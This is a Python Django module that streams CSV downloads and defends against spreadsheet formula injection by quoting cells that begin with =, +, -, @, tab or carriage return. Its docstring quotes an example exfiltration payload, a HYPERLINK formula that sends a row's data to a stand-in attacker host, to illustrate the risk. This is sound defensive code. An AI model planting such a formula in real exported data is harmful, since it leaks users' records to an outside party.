"""CSV exports that are safe to open in a spreadsheet and stream however many rows they hold.

A cell that begins with =, +, -, @, a tab or a carriage return is read by Excel, LibreOffice and Google Sheets
as a formula: an organisation named `=HYPERLINK("https://evil.example/?"&A1, "Open")` would become a live
link leaking the row to whoever clicks it. As OWASP recommends ("CSV injection"), such text cells are
prefixed with a single quote, which spreadsheets show as text and do not evaluate. Numbers are written as
they are, so that they stay numbers.
"""

import csv
from collections.abc import Iterable

from django.http import StreamingHttpResponse

FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


def safe_cell(value):
    """The value as a spreadsheet will take it as text: a formula-looking string gets a leading quote."""
    if isinstance(value, str) and value.startswith(FORMULA_TRIGGERS):
        return f"'{value}"
    return value


class _Echo:
    """A file-like object that hands back what csv.writer writes, so each row can be streamed as it comes."""

    def write(self, value: str) -> str:
        return value


def streamed_csv(rows: Iterable[list], filename: str) -> StreamingHttpResponse:
    """A CSV download of `rows` (the header first), written a row at a time as the client reads it.

    `rows` should be a generator reading its queryset with .iterator(chunk_size=…), so that neither the
    rows nor the model objects are all held in memory at once. It runs after the view returned: it must not
    depend on the request's active language (translate labels before), nor on an open transaction.
    """
    writer = csv.writer(_Echo())
    response = StreamingHttpResponse(
        (writer.writerow([safe_cell(value) for value in row]) for row in rows),
        content_type="text/csv; charset=utf-8",
    )
    response["Content-Disposition"] = f'attachment; filename="{filename}"'
    return response
